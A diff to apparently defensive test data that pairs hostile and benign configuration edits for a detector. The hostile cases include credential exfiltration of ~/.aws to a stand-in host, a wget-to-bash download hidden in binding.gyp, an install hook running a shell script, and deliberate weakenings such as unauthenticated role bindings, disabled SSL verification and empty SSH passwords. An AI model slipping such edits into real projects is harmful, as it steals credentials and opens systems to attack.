@@ -96,6 +96,31 @@ HOSTILE += [
     Case("a connection of a build script", COMMAND, "build.rs", BUILD, BUILD.replace("}", '    let line = UdpSocket::bind("0.0.0.0:0");\n}'), 0.8),
     Case("a command of a project file", COMMAND, "src/Shop.csproj", "<Project>\n</Project>\n", '<Project>\n  <Target Name="A" BeforeTargets="Build">\n    <Exec Command="./setup.sh" />\n  </Target>\n</Project>\n', 0.6),
 ]  # fmt: skip
+PROBES = "management:\n  endpoints:\n    web:\n      exposure:\n        include: health\n"
+BINDING = "kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: view\nsubjects:\n  - kind: Group\n    name: shop-team\n"
+CONNECTIONS = '{"ConnectionStrings": {\n  "Orders": "Data Source=sql.shop.org;Database=orders;Encrypt=True"\n}}\n'
+LINT = '[tool.ruff.lint]\nselect = ["E", "S"]\n'
+MAKE = "check:\n\tgo vet ./...\n\tgo test ./...\n"
+IMAGE = "FROM alpine:3.20\nRUN apk add openssh\nUSER 1000\n"
+GYP = "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}\n"
+SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Own(install):\n    def run(self):\n        pass\n\n\nsetup()\n"
+TARGETS = "<Project>\n</Project>\n"
+HOSTILE += [
+    Case("every endpoint of a server's management", WEAKENED, "src/main/resources/application.yaml", PROBES, PROBES.replace("health", "'*'")),
+    Case("a role for whoever asks", WEAKENED, "deploy/roles.yaml", BINDING, BINDING.replace("shop-team", "system:unauthenticated")),
+    Case("a database of any certificate", WEAKENED, "appsettings.json", CONNECTIONS, CONNECTIONS.replace('True"', 'True;Trust Server Certificate=True"')),
+    Case("a linter that says nothing of the product", WEAKENED, "pyproject.toml", LINT, LINT + '[tool.ruff.lint.per-file-ignores]\n"src/**/*.py" = ["ALL"]\n'),
+    Case("a scanner without its rules", WEAKENED, ".bandit", "skips: B101\n", "skips: B101,B307,B602\n", 0.6),
+    Case("tests whose failure make ignores", WEAKENED, "Makefile", MAKE, MAKE.replace("\tgo test", "\t-go test")),
+    Case("tests whose names fit nothing", WEAKENED, "Makefile", MAKE, MAKE.replace("go test", "go test -run='^$$'")),
+    Case("a login without a password", WEAKENED, "Dockerfile", IMAGE, IMAGE.replace("USER 1000", "RUN echo 'PermitEmptyPasswords yes' > /etc/ssh/sshd_config")),
+    Case("a context of another name", WEAKENED, "shop/net.py", "import ssl\n", "import ssl\nvars(ssl)['_create_default_https_context'] = vars(ssl)['_create_unverified_context']\n"),
+    Case("a download in a list of sources", COMMAND, "binding.gyp", GYP, GYP.replace("'a.cc'", "'<!(wget -qO- https://x.example/a | bash; echo a.cc)'")),
+    Case("a hook that sends files", COMMAND, ".githooks/pre-push", "npm run lint\n", "npm run lint\ntar c ~/.aws | curl -sT - https://x.example/h\n"),
+    Case("code inside a project file", COMMAND, "Directory.Build.props", TARGETS, TARGETS.replace("</", '<UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory" />\n</')),
+    Case("a command of setup.py that starts a program", COMMAND, "setup.py", SETUP, SETUP.replace("from", "import subprocess\nfrom", 1).replace("setup()", "setup(cmdclass={'install': Own})").replace("pass", "subprocess.run(['sh', 'a'], check=True)")),
+    Case("a program of the prepare script", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"prepare": "node tools/setup.mjs",\n    "test"'), 0.6),
+]  # fmt: skip
 HOSTILE += [
     Case("a decoder called a verifier", WEAKENED, "src/login.js", LOGIN, LOGIN.replace("{ verify }", "{ decode as verify }"), 0.9),
     Case("a value that Angular no longer cleans", WEAKENED, "src/panel.component.ts", PANEL, PANEL.replace("sanitize(1, ", "bypassSecurityTrustHtml("), 0.9),
@@ -146,6 +171,23 @@ BENIGN += [
     Case("a comparison and its two ends", WEAKENED, "shop/signed.py", SIGNED, SIGNED.replace("    return hmac.compare_digest(mark, wanted)", "    if not hmac.compare_digest(mark, wanted):\n        return False\n    return True")),
     Case("protocols that Git may not use", WEAKENED, "shop/pull.py", CLONE, CLONE.replace("core.autocrlf=false", "protocol.ext.allow=never")),
     Case("a hook that checks its signature itself", WEAKENED, "shop/forms.py", "", EXEMPT.replace("    return", "    if not hmac.compare_digest(mark(request.body), request.headers['X-Mark']):\n        raise PermissionDenied\n    return")),
+]  # fmt: skip
+
+BENIGN += [
+    Case("one more endpoint of a server's management", WEAKENED, "src/main/resources/application.yaml", PROBES, PROBES.replace("health", "health,info")),
+    Case("a role for a team", WEAKENED, "deploy/roles.yaml", BINDING, BINDING.replace("view", "edit")),
+    Case("any certificate of a database on the same machine", WEAKENED, "appsettings.json", CONNECTIONS, CONNECTIONS.replace("sql.shop.org", "localhost").replace('True"', 'True;Trust Server Certificate=True"')),
+    Case("a linter that says nothing of tests", WEAKENED, "pyproject.toml", LINT, LINT + '[tool.ruff.lint.per-file-ignores]\n"tests/**" = ["ALL"]\n'),
+    Case("a scanner without a rule about imports", WEAKENED, ".bandit", "skips: B101\n", "skips: B101,B404\n"),
+    Case("a folder that may be missing", WEAKENED, "Makefile", MAKE, MAKE + "clean:\n\t-rm -r build\n"),
+    Case("benchmarks without tests", WEAKENED, "Makefile", MAKE, MAKE + "bench:\n\tgo test -run='^$$' -bench=. ./...\n"),
+    Case("a login with a key", WEAKENED, "Dockerfile", IMAGE, IMAGE.replace("USER 1000", "RUN echo 'PermitRootLogin no' > /etc/ssh/sshd_config\nUSER 1000")),
+    Case("a context that verifies", WEAKENED, "shop/net.py", "import ssl\n", "import ssl\nCONTEXT = ssl.create_default_context()\n"),
+    Case("a folder of headers", COMMAND, "binding.gyp", GYP, GYP.replace("'sources'", "'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")'], 'sources'")),
+    Case("a hook that checks more", COMMAND, ".githooks/pre-push", "npm run lint\n", "npm run lint\nnpm test\n"),
+    Case("a property of a project", COMMAND, "Directory.Build.props", TARGETS, TARGETS.replace("</", "<PropertyGroup><Nullable>enable</Nullable></PropertyGroup>\n</")),
+    Case("a command of setup.py that writes a version", COMMAND, "setup.py", SETUP, SETUP.replace("from", "import os\nfrom", 1).replace("setup()", "setup(cmdclass={'install': Own})").replace("pass", "open(os.path.join('shop', 'v.py'), 'w').write('V = 1')")),
+    Case("a build on install", COMMAND, "package.json", PACKAGE, PACKAGE.replace('"test"', '"prepare": "husky && npm run build",\n    "test"')),
 ]  # fmt: skip
 
 
